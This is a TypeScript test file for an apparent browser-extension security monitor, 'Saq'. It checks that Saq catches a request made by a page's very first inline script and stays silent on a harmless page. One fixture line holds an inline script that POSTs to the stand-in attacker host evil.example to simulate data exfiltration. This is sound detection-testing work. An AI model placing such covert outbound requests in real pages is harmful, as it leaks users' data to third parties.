/**
 * The MAIN-world sensor must be in place before the page's first script runs, or a helper baked into
 * the page's first inline script would act unseen. The first inline script here makes a request to an
 * unknown host; Saq can only report it if its hooks were installed before that script ran.
 */
import { expect, it } from 'vitest';
import { describeEachBrowser, eventually } from './each-browser.ts';

const FIRST_SCRIPT_PAGE = `<!doctype html><html><head>
<script>fetch('https://evil.example/first-script?from=inline', { method: 'POST', body: 'x' });</script>
<title>first script</title></head><body><p>first-script probe</p></body></html>`;

const QUIET_PAGE = `<!doctype html><html><head><script>window.shopReady = true;</script><title>quiet</title></head><body><p>quiet</p></body></html>`;

describeEachBrowser('MAIN world at document_start', (context) => {
  it('sees a request made by the very first inline script', async () => {
    context.shop.setFixture('/kz/__first-script', FIRST_SCRIPT_PAGE);
    const saq = await context.launch();
    const page = await saq.newShopPage('/kz/__first-script');
    const tabId = await saq.tabIdOf(page);
    const report = await eventually(
      () => saq.report(tabId),
      (r) => r.verdicts.some((v) => v.finding.kind === 'exfiltration'),
      'the exfiltration verdict',
    );
    const exfiltration = report.verdicts.find((v) => v.finding.kind === 'exfiltration')!;
    expect(exfiltration.finding.evidence.url).toBe('https://evil.example/first-script?from=inline');
    expect(exfiltration.finding.evidence.via).toBe('fetch');
    // The request really left the page: the replica's "evil" host received it.
    expect(context.shop.requests.some((r) => r.host === 'evil.example' && r.path.startsWith('/first-script'))).toBe(true);
  });

  it('reports nothing for a first inline script that only does page work', async () => {
    context.shop.setFixture('/kz/__quiet', QUIET_PAGE);
    const saq = await context.launch();
    const page = await saq.newShopPage('/kz/__quiet');
    const tabId = await saq.tabIdOf(page);
    expect(await page.evaluate(() => (window as { shopReady?: boolean }).shopReady)).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 500));
    const report = await saq.report(tabId);
    expect(report.verdicts).toEqual([]);
    expect(await saq.badgeText(tabId)).toBe('');
  });
});
